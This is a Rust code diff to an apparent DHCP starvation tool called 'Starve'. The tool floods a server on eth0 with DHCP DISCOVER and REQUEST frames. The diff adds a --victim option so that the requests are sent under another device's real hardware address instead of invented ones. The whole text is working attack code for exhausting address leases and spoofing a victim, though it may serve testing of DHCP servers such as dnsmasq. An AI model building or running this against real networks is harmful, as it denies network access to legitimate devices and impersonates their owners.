@@ -31,6 +31,9 @@ pub struct Starve {
     /// Own hardware address, such as 02:00:00:00:00:01
     #[arg(long)]
     mac: String,
+    /// Another's hardware address, for whom to ask instead of inventing one
+    #[arg(long)]
+    victim: Option<String>,
     /// Seconds
     #[arg(long, default_value_t = 4)]
     seconds: u64,
@@ -70,6 +73,7 @@ impl Starve {
     /// No root, or no interface `eth0`.
     pub fn run(&self) -> anyhow::Result<usize> {
         let (wire, own) = (open("eth0", Some(SockProtocol::EthIp))?, hardware(&self.mac)?);
+        let victim = self.victim.as_deref().map(hardware).transpose()?;
         setsockopt(&wire, sockopt::ReceiveTimeout, &TimeVal::new(0, 10_000))?;
         let until = Instant::now() + Duration::from_secs(self.seconds);
         let (mut number, mut waiting, mut settled) = (0_u32, HashMap::new(), HashSet::new());
@@ -88,7 +92,7 @@ impl Starve {
                 };
                 number = number.max(next);
                 waiting.insert(next, Instant::now());
-                let frame = self.request(own, next, DISCOVER, &[]);
+                let frame = self.request(self.device(own, victim, next), next, DISCOVER, &[]);
                 // A full queue is no reason to stop.
                 _ = send(wire.as_raw_fd(), &frame, MsgFlags::empty());
             }
@@ -98,13 +102,14 @@ impl Starve {
             };
             let answer = frame.get(..length).and_then(read);
             // Others hear what is said to all as well.
-            let Some(answer) = answer.filter(|one| one.device == self.device(own, one.transaction).0) else {
+            let asked = answer.map(|one| (self.device(own, victim, one.transaction), one));
+            let Some((device, answer)) = asked.filter(|((device, _), one)| one.device == *device) else {
                 continue;
             };
             match (answer.kind, answer.server) {
                 (OFFER, Some(server)) => {
                     let wanted = [&[50, 4][..], &answer.address.octets(), &[54, 4], &server.octets()].concat();
-                    let frame = self.request(own, answer.transaction, REQUEST, &wanted);
+                    let frame = self.request(device, answer.transaction, REQUEST, &wanted);
                     _ = send(wire.as_raw_fd(), &frame, MsgFlags::empty());
                 }
                 (ACK, _) => {
@@ -119,12 +124,12 @@ impl Starve {
     }
 
     /// Who the device of this number is, to the server and in the frame.
-    fn device(&self, own: [u8; 6], number: u32) -> ([u8; 6], [u8; 6]) {
+    fn device(&self, own: [u8; 6], victim: Option<[u8; 6]>, number: u32) -> ([u8; 6], [u8; 6]) {
         // As far from each other as real ones: dnsmasq offers those that follow one another the same address as long as nobody has taken it.
         let [_, n1, n2, n3] = number.wrapping_mul(0x009e_37b1).to_be_bytes();
         // So that no two who do this invent the same.
         let [.., high, low] = std::process::id().to_be_bytes();
-        let invented = [0x0a, high, low, n1, n2, n3];
+        let invented = victim.unwrap_or([0x0a, high, low, n1, n2, n3]);
         match self.kind {
             Invention::Devices => (invented, invented),
             Invention::Clients => (invented, own),
@@ -132,9 +137,8 @@ impl Starve {
         }
     }
 
-    /// Of the device of this number, which is its transaction too.
-    fn request(&self, own: [u8; 6], number: u32, kind: u8, options: &[u8]) -> Vec<u8> {
-        let (device, from) = self.device(own, number);
+    /// Of a device and its frame, by its number, which is its transaction too.
+    fn request(&self, (device, from): ([u8; 6], [u8; 6]), number: u32, kind: u8, options: &[u8]) -> Vec<u8> {
         let length = if self.kind == Invention::Longer { 16 } else { 6 };
         let transaction = number.to_be_bytes();
         let mut message = vec![1, 1, length, 0];
